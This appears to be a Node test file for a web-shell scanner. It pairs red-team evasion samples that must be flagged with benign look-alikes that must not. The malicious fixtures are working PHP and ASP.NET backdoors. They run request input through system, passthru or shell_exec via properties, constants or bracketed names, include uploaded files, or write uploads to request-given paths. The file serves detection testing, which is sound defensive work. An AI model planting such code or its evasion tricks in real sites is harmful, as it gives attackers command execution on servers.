import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 31: red team S30B's open evasions -16 (an upload's temporary file included inside a function given
// $_FILES) and -17 (a property holding a command function's name, called through a local or in brackets),
// and a name written as a string in brackets and called, `('system')($c)`, inside a function given request
// input; with look-alikes that must stay clean.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

// [what, path, the file]
const SHELLS: [string, string, string][] = [
  ['S30B-16: an upload included by a function given $_FILES', '/www/load.php', `<?php
function load($f) {
    require_once $f['tmp_name'];
}
if (isset($_FILES['f'])) load($_FILES['f']);
`],
  ['S30B-16: the temporary file\'s name handed to a function that includes it', '/www/load2.php', `<?php
function load($path) {
    include $path;
}
load($_FILES['f']['tmp_name']);
`],
  ['a page the request names included by a helper', '/www/inc.php', `<?php
function l($p) { include($p); }
l($_GET['f']);
`],
  ['S30B-17: a private property holding system, copied to a local and called', '/www/runner.php', `<?php
class Runner {
    private $fn = 'system';
    public function run($c) {
        $f = $this->fn;
        return $f($c);
    }
}
$r = new Runner();
$r->run($_GET['c']);
`],
  ['S30B-17: the property called in brackets', '/www/runner2.php', `<?php
class Runner {
    private $fn = 'system';
    public function run($c) {
        return ($this->fn)($c);
    }
}
(new Runner)->run($_POST['c']);
`],
  ['a class constant holding passthru, called in brackets', '/www/runner3.php', `<?php
class K {
    const F = 'passthru';
    static function go($c) { (self::F)($c); }
}
K::go($_REQUEST['x']);
`],
  ['a name in brackets called inside a function given request input', '/www/grp.php', `<?php
function r($c) { ('system')($c); }
r($_GET['c']);
`],
  ['a name in brackets called inside a method', '/www/grp2.php', `<?php
class Runner { public function run($c) { return ('shell_exec')($c); } }
echo (new Runner)->run($_GET['c']);
`],
];

const BENIGN: [string, string, string][] = [
  ['a view helper including a fixed folder\'s page and a config file by its path', '/www/views.php', `<?php
function view($name, array $data = []) {
    extract($data);
    include __DIR__ . '/views/' . basename($name) . '.php';
}
function load_config($file) {
    require_once $file;
}
load_config(__DIR__ . '/config.php');
$page = isset($_GET['page']) ? $_GET['page'] : 'home';
view($page, ['user' => $_SESSION['user'] ?? null]);
`],
  ['a template renderer given request values to show, its template fixed', '/www/render.php', `<?php
function render($tpl, $vars) {
    extract($vars);
    include $tpl;
}
render('templates/list.php', ['items' => $_GET]);
`],
  ['a CSV import reading an upload\'s temporary file', '/www/import.php', `<?php
function import_csv($f) {
    $h = fopen($f['tmp_name'], 'r');
    while (($row = fgetcsv($h)) !== false) { save_row($row); }
    fclose($h);
}
function save_row($r) { /* ... */ }
if (!empty($_FILES['csv'])) import_csv($_FILES['csv']);
`],
  ['a language file under a fixed folder, its name filtered', '/www/lang.php', `<?php
$lang = preg_replace('/[^a-z]/', '', $_GET['lang'] ?? 'en');
function load_lang($l) { include "lang/$l.php"; }
load_lang($lang);
`],
  ['a formatter class whose property names a string function', '/www/fmt.php', `<?php
class Fmt {
    private $fn = 'strtoupper';
    public function apply($s) { return ($this->fn)($s); }
}
echo htmlspecialchars((new Fmt)->apply($_GET['q'] ?? ''));
`],
  ['a string function\'s name in brackets called on the query', '/www/lower.php', `<?php
$f = $_GET['upper'] ?? '' ? 'strtoupper' : 'strtolower';
echo htmlspecialchars(('trim')($_GET['q'] ?? ''));
echo htmlspecialchars($f($_GET['q'] ?? ''));
`],
];

describe('scan: session 31 (red team S30B\'s open evasions -16, -17; a name in brackets called)', () => {
  for (const [name, path, src] of SHELLS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(SHELLS.length, 8);
    assert.equal(BENIGN.length, 6);
  });
});

// Red team S30C-E2: an ASP.NET upload written to a path the request gives whole, the FileStream's mode held in a
// variable or cast from its number; a page that reads a file with a mode in a variable and saves uploads to a
// fixed folder under new names is not one.
const ASPX_SHELLS: [string, string][] = [
  ['the mode in a variable', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count == 0) return;
  FileMode m = FileMode.Create;
  using (var fs = new FileStream(Request["p"], m)) { Request.Files[0].InputStream.CopyTo(fs); }
}
</script>`],
  ['the mode cast from its number', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count == 0) return;
  using (var fs = new FileStream(Request["p"], (FileMode)2)) { Request.Files[0].InputStream.CopyTo(fs); }
}
</script>`],
];
const ASPX_BENIGN: [string, string][] = [
  ['a download with its mode in a variable, uploads saved under new names', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  FileMode m = FileMode.Open;
  using (var fs = new FileStream(Server.MapPath("~/files/" + Path.GetFileName(Request["f"])), m)) { fs.CopyTo(Response.OutputStream); }
  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath("~/uploads/" + Guid.NewGuid() + ".dat"));
}
</script>`],
  ['a file opened by a request path with (FileMode)3, Open', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  if (!User.IsInRole("admin")) return;
  using (var fs = new FileStream(Request["p"], (FileMode)3)) { fs.CopyTo(Response.OutputStream); }
  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath("~/inbox/" + Guid.NewGuid()));
}
</script>`],
];

describe('scan: session 31, red team S30C-E2 (an upload\'s FileStream mode in a variable or a cast)', () => {
  for (const [name, src] of ASPX_SHELLS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, '/www/up.aspx');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, src] of ASPX_BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, '/www/files.aspx');
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(ASPX_SHELLS.length, 2);
    assert.equal(ASPX_BENIGN.length, 2);
  });
});
